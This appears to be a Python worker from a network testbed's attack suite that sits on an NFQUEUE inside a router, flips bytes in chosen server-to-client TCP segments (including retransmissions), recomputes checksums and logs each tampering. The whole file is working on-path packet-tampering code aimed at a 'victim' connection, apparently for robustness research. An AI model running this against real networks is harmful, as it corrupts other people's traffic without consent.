"""Worker of ``tls_tamper``, run INSIDE the path's access router:
``python -m attacks._nfq '<json config>'``.

A minimal NFQUEUE client over a raw ``NETLINK_NETFILTER`` socket (no libnetfilter_queue
binding needed): it binds queue ``queue``, receives every packet the router's iptables rule
queues (whole packets, GSO already segmented by the kernel), accepts them unchanged, except
that in the ``after``-th server->client segment with payload (and the ``count - 1`` next
ones, and their retransmissions) it flips ``flip`` payload bytes (XOR 0xff) in the middle
of the payload and fixes the TCP checksum. Each tampering is appended to ``log`` as one
JSON line as it happens, so the evidence survives the worker being stopped.

Fail-open: the queue is configured with NFQA_CFG_F_FAIL_OPEN and the rule uses
``--queue-bypass``, so the victim's packets pass if the worker lags or is gone.
"""

from __future__ import annotations

import json
import signal
import struct
import sys
import time
from pathlib import Path
from typing import Any

from testbed.model.wire import parse_ipv4_tcp, tcp_checksum
from testbed.runtime.nfqueue import Queue


def tamper(pkt: bytes, flip: int) -> tuple[bytes, dict[str, Any]]:
    """Flip ``flip`` bytes in the middle of the TCP payload; fix the TCP checksum."""
    ihl = (pkt[0] & 0x0F) * 4
    total = struct.unpack_from("!H", pkt, 2)[0]
    doff = (pkt[ihl + 12] >> 4) * 4
    start = ihl + doff
    size = total - start
    at = start + max(0, size // 2 - flip // 2)
    n = min(flip, total - at)
    buf = bytearray(pkt)
    before = bytes(buf[at:at + n])
    for i in range(at, at + n):
        buf[i] ^= 0xFF
    seg = bytes(buf[ihl:total])
    struct.pack_into("!H", buf, ihl + 16, tcp_checksum(bytes(buf[12:16]), bytes(buf[16:20]), seg))
    return bytes(buf), {"payload_offset": at - start, "bytes": n, "before": before.hex(),
                        "after": bytes(buf[at:at + n]).hex()}


def main() -> int:
    cfg = json.loads(sys.argv[1])
    log = Path(cfg["log"])
    signal.signal(signal.SIGTERM, lambda *_: sys.exit(0))
    queue = Queue(cfg["queue"])
    print("ready", flush=True)
    data_segments = 0
    done: set[tuple[int, int, int]] = set()  # (dport, seq, len) of the segments changed
    with log.open("a") as out:
        for pkt_id, pkt in queue.packets():
            seg = parse_ipv4_tcp(pkt)
            if (seg is None or seg.length == 0 or seg.src != cfg["server"]
                    or seg.sport != cfg["port"]):
                queue.verdict(pkt_id)
                continue
            key = (seg.dport, seg.seq, seg.length)
            again = key in done
            if not again:
                data_segments += 1
                if data_segments < cfg["after"] or len(done) >= cfg["count"]:
                    queue.verdict(pkt_id)
                    continue
            # A retransmission of a segment already changed is changed the same way: if
            # the first copy is lost downstream (the access link's queue), the clean copy
            # would otherwise undo the attack.
            new, what = tamper(pkt, cfg["flip"])
            queue.verdict(pkt_id, new)
            done.add(key)
            out.write(json.dumps({"time": time.time(), "data_segment": data_segments,
                                  "retransmission": again,
                                  "src": seg.src, "dst": seg.dst, "sport": seg.sport,
                                  "dport": seg.dport, "seq": seg.seq, "len": seg.length,
                                  "mptcp_option": seg.has_mptcp, **what}) + "\n")
            out.flush()
    return 0


if __name__ == "__main__":
    sys.exit(main())
